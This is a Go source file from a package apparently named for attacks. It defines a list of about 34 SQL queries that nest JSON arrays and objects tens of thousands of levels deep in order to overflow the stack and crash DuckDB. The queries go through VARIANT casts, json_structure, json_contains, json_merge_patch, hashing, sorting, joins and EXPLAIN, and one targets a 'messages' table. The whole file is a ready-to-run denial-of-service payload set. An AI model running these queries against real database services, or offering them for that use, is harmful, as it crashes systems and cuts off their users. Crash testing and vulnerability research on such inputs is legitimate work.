package attacks

import "fmt"

// The stack overflows when DuckDB descends into a value: into JSON as a tree, into a
// VARIANT, and for json_structure.
func crashes() [][2]string {
	lists := func(n int) string { return deep("[", "]", n) }
	objects := func(n int) string {
		return fmt.Sprintf(`(repeat('{"a":', %d) || '1' || repeat('}', %[1]d))`, n)
	}
	both := `(repeat('[{"a":', 45000) || '1' || repeat('}]', 45000))`
	variant := lists(30000) + "::JSON::VARIANT"
	return [][2]string{
		{"JSON to VARIANT", "SELECT length(" + lists(20000) + "::JSON::VARIANT::VARCHAR)"},
		{"json_structure", "SELECT length(json_structure(" + lists(90000) + ")::VARCHAR)"},
		{"json_group_structure", "SELECT length(json_group_structure(" + lists(90000) + "::JSON)::VARCHAR)"},
		{"json_group_structure of rows", "SELECT count(*) FROM (SELECT json_group_structure(j) AS s FROM (SELECT i, " + objects(90000) + "::JSON AS j FROM range(4) t(i)) GROUP BY i) WHERE s IS NOT NULL"},
		{"json_contains", "SELECT json_contains(" + lists(90000) + ", " + lists(90000) + ")"},
		{"json_merge_patch", "SELECT length(json_merge_patch(" + objects(90000) + ", " + objects(90000) + ")::VARCHAR)"},
		{"objects to VARIANT", "SELECT length(" + objects(20000) + "::JSON::VARIANT::JSON::VARCHAR)"},
		{"VARIANT only made", "SELECT " + lists(60000) + "::JSON::VARIANT IS NULL"},
		{"VARIANT tried", "SELECT TRY_CAST(" + lists(90000) + "::JSON AS VARIANT) IS NULL"},
		{"VARIANT in a struct", "SELECT length(({'a': " + lists(50000) + "::JSON})::VARIANT::VARCHAR)"},
		{"VARIANT of a list", "SELECT length(([" + lists(50000) + "::JSON])::VARIANT::VARCHAR)"},
		{"VARIANT as a result", "SELECT " + variant},
		{"variant_typeof", "SELECT variant_typeof(" + variant + ")"},
		{"variant_extract", "SELECT variant_extract(" + objects(30000) + "::JSON::VARIANT, 'a')::VARCHAR"},
		{"to_json of a VARIANT", "SELECT length(to_json(" + variant + ")::VARCHAR)"},
		{"hash of a VARIANT", "SELECT hash(" + variant + ")"},
		{"VARIANTs compared", "SELECT " + variant + " = " + variant},
		{"VARIANTs sorted", "SELECT v::VARCHAR FROM (SELECT " + variant + " AS v FROM range(3)) ORDER BY v"},
		{"VARIANTs grouped", "SELECT count(*) FROM (SELECT DISTINCT " + variant + " AS v)"},
		{"VARIANTs joined", "SELECT count(*) FROM (SELECT " + variant + " AS v) a JOIN (SELECT " + variant + " AS v) b USING (v)"},
		{"SUMMARIZE", "SUMMARIZE SELECT " + variant + " AS v"},
		{"EXPLAIN", "EXPLAIN SELECT " + variant + "::VARCHAR"},
		{"EXPLAIN ANALYZE", "EXPLAIN ANALYZE SELECT length(" + variant + "::VARCHAR) FROM range(3)"},
		{"json_structure of objects", "SELECT length(json_structure(" + objects(90000) + ")::VARCHAR)"},
		{"json_structure of both", "SELECT length(json_structure(" + both + ")::VARCHAR)"},
		{"json_structure in a filter", "SELECT count(*) FROM messages WHERE json_structure(" + lists(90000) + " || left(text, 0)) IS NULL"},
		{"json_structure of rows", "SELECT count(*) FROM range(100) t(i) WHERE json_structure(repeat('[', 90000) || i || repeat(']', 90000)) IS NULL"},
		{"json_structure explained", "EXPLAIN SELECT json_structure(" + lists(95000) + ")"},
		{"from_json of a structure", "SELECT from_json('[]', json_structure(" + lists(80000) + "))"},
		{"json_transform", `SELECT json_transform('[]', repeat('[', 90000) || '"INTEGER"' || repeat(']', 90000))`},
		{"json_contains of objects", "SELECT json_contains(" + objects(90000) + ", " + objects(90000) + ")"},
		{"json_contains of both", "SELECT json_contains(j, j) FROM (SELECT " + both + " AS j)"},
		{"json_contains of a part", "SELECT json_contains(j, json_extract(j, '$[0][0]')) FROM (SELECT " + lists(95000) + " AS j)"},
		{"json_merge_patch of one", "SELECT length(json_merge_patch('{}', " + objects(90000) + ")::VARCHAR)"},
	}
}
